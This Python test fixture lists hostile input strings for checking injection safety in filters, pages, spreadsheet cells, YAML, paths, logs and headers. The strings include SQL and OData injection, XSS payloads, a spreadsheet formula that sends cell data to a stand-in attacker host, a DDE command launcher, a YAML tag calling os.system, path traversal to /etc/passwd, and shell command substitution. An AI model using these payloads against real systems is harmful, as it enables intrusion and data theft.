"""Texts that go wrong where a text is put carelessly into a filter, a page, a cell, a file, a path, a log or a row."""

import unicodedata

# At the begin of a line of the log only where a text has broken out of its own.
FORGED_LINE = "FORGED-LINE"

HOSTILE_TEXTS: dict[str, str] = {
    "a Tables filter": "x' or PartitionKey ne '",
    "a filter with a comment": "'; drop table service; --",
    "two quotes": "''",
    "an OData function": "' or substringof('a',name) or '",
    "HTML": "<script>window.pwned = 1</script>",
    "an attribute": '"><img src=x onerror="window.pwned = 1">',
    "a template": "{{7*7}} ${7*7} %(name)s {0} {name}",
    "an address": "javascript:window.pwned=1",
    "a formula": '=HYPERLINK("http://evil.example?"&A1)',
    "a formula of DDE": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a plus": "+1+1",
    "a dash": "-1",
    "YAML": "a: [b, *c]",
    "a YAML tag": "!!python/object/apply:os.system ['true']",
    "the end of YAML": "--- #",
    "a path up": "../../../etc/passwd",
    "a path of Windows": "..\\..\\windows\\win.ini",
    "an absolute path": "/etc/passwd",
    "a device": "CON.png",
    "dots": "..",
    "JSON": '{"a": ["b"]}, null',
    "half of JSON": '\\u0022, "role": "administrator", "x": "',
    "a line of a log": f"a\n{FORGED_LINE} all is well",
    "a line of a log by CR": f"a\r{FORGED_LINE}",
    "a line by U+2028": f"a\u2028{FORGED_LINE}\u2029{FORGED_LINE}",
    "a header": "a\r\nSet-Cookie: x=y",
    "escapes of a terminal": "\x1b[2J\x1b]0;pwned\x07",
    "a null byte": "a\x00b",
    "a delete": "a\x7fb\x85c",
    "right to left": "\u202egnp.exe\u202c \u2066a\u2069",
    "what is not seen": "a\u200b\u200d\u2060\ufeffb",
    "four bytes": "😀👩‍👩‍👧‍👦🏳️‍🌈𝕏",
    "many marks": "e" + "\u0301" * 60,
    "a mark apart": "e\u0301",
    "no character": "\ufffe\uffff\U0010ffff",
    "private": "\ue000\U000f0000",
    "spaces": " \u00a0a\u3000 ",
    "nothing but spaces": " \u3000 ",
    "percent": "100%25 %00 %2e%2e%2f",
    "a prototype": "__proto__",
    "a shell": "$(touch pwned) `id` | & ;",
    "a long one": "😀" * 5000,
}


def forms(text: str) -> set[str]:
    """A text as it may come back: as it was, or trimmed, and in one form."""
    return {text, text.strip(), text.rstrip(), unicodedata.normalize("NFC", text.strip())}
